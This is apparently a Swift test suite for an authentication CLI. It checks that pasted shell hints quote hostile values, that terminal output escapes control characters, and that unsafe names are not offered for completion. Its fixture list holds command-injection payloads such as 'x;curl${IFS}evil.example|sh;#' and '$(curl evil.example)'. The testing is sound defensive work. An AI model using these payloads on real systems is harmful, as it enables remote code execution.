import Testing

@testable import AuthCore
@testable import authctl

/// Hints are pasted into shells: no value in one may become a command, or a flag.
@Suite struct `A value in a hint` {
    static let hostile = [
        "x;curl${IFS}evil.example|sh;#", "$(curl evil.example)", "`curl evil.example`", "it's", "a b", "a\nb",
        "\u{1B}[31mred", "--config-dir", "-x", "", "=ls", "~root", "*", "it'\u{301};curl evil.example;'\u{301}", "a\"b",
        "a\\b", "!x", "{a,b}", "é", "<a>&b",
    ]

    private func hints(_ v: String) throws -> [Failure] {
        let task = Undertaking("failed", provider: v, again: "authctl signin --provider \(v)")
        let store: [StoreError] = [
            .system(operation: "open", path: v, code: 13), .wrongOwner(path: v, owner: 1),
            .tooOpen(path: v, mode: 0o666, wanted: 0o600), .notAPlainFile(path: v), .damaged(path: v, reason: "x"),
        ]
        let errors: [any Error] =
            [
                NotSignedIn.noSession(provider: v), NotSignedIn.ambiguous([v, "b"]),
                NotSignedIn.noToken(.id, provider: v),
                NotSignedIn.expired(provider: v), NotSignedIn.refused(provider: v), NotSignedIn.jobOver(platform: v),
                NotSignedIn.elsewhere(provider: v, issuer: "https://a.example"),
                AccountConflict.existsWithDifferentCredential(email: v, providers: ["password"], pendingID: v),
                AccountConflict.existsWithDifferentCredential(email: "a", providers: [v], pendingID: "1"),
                AccountConflict.credentialAlreadyInUse(provider: "a", email: nil, pendingID: v),
                AccountConflict.providerAlreadyLinked(v), AccountConflict.emailAlreadyInUse(v),
                SignInError.redirectURINeeded(provider: v), ProviderError.notConfigured(v),
                WorkloadError.command(v, ServerText("said")), WorkloadError.ambiguous([v, "b"], platform: "file"),
                RequestRefused.host(origin: "https://a.example", provider: v, owner: nil),
                RequestRefused.host(
                    origin: "https://a.example", provider: "a", owner: SessionOwner(provider: v, account: "a")),
                AccountRefusal.signedOut(uid: v), SettingsDropped(provider: v, settings: ["scopes"]),
                HostUnknown(host: v, provider: v),
                SignInError.interactionRequired, SignInError.nothingPasted, CancellationError(),
                OAuthError.stateMismatch,
            ] + store
        return errors.map { Failure($0, while: task) }
    }

    /// What a shell passes to each command of a hint.
    private func words(_ hint: String) async throws -> [String] {
        let script = """
            show() { printf '%s\\0' "$@"; }
            for name in authctl mv chmod sudo; do eval "$name() { show \\"\\$@\\"; }"; done
            curl() { show EVIL; }
            id() { :; }
            \(hint)
            """
        let result = try await Program(command: ["/bin/sh", "-c", script], environment: [:]).run()
        return String(decoding: result.output, as: UTF8.self).split(separator: "\0", omittingEmptySubsequences: false)
            .map(String.init)
    }

    @Test(arguments: hostile) func `is one word of a shell, whatever is in it`(value: String) async throws {
        var checked = 0
        for failure in try hints(value) {
            let text = try #require(failure.hint?.text)
            guard
                let start = ["authctl ", "sudo ", "chmod ", "mv "].compactMap({ text.firstRange(of: $0)?.lowerBound })
                    .min()
            else {
                // A sentence: its value is quoted all the same.
                #expect(text.contains(Shell.word(value)), "\(text)")
                continue
            }
            // Sentences go on in parentheses.
            let end = text.firstRange(of: " (a proxy")?.lowerBound ?? text.endIndex
            let command = String(text[start..<end])
            let words = try await words(command)
            let isThere = words.contains { word in
                // Behind the last word of a sentence, or with what the hint adds to a name.
                ["", ",", ".old", ".damaged"].contains { end in
                    word == value + end || (word.hasPrefix("--") && word.hasSuffix("=" + value + end))
                }
            }
            #expect(isThere, "\(text) gives \(words)")
            #expect(!words.contains("EVIL"), "\(text)")
            checked += 1
        }
        #expect(checked > 20)
    }

    @Test func `that is plain stays as people write it`() {
        let hint: Hint = "authctl signin --provider \("oidc.work") --email \("ada+x@example.com") \(5)"
        #expect(hint.text == "authctl signin --provider oidc.work --email ada+x@example.com 5")
        let path: Hint = "chmod 600 \("/home/ada/.config/authctl/key")"
        #expect(path.text == "chmod 600 /home/ada/.config/authctl/key")
    }

    @Test func `with a dash in front is no flag`() {
        let option: Hint = "authctl signin --provider \("--yes")"
        #expect(option.text == "authctl signin --provider=--yes")
        let argument: Hint = "authctl accounts lookup \("--yes")"
        #expect(argument.text == "authctl accounts lookup -- --yes")
    }
}

@Suite struct `What is shown on a terminal` {
    @Test func `of data has its lines and tabs, and nothing hidden`() {
        let bytes = Array("a\tb\r\nc\u{1B}[31m\u{202E}\n".utf8) + [0x9B, 0x41, 10]
        let shown = Output.shown(bytes)
        #expect(shown == "a\tb\nc\\u{1b}[31m\\u{202e}\n\u{FFFD}A\n")
    }

    @Test func `names that a shell would run are not offered to complete`() {
        let names = [
            "ada@example.com", "oidc.work", "$(touch x)@a.example", "`x`@a", "a b", "-x", "x;y@a", "a\nb",
            "é@a.example",
            "\u{202E}a", "a'b", "a\\b",
        ]
        #expect(Completions.offered(names) == ["ada@example.com", "oidc.work", "é@a.example"])
    }
}
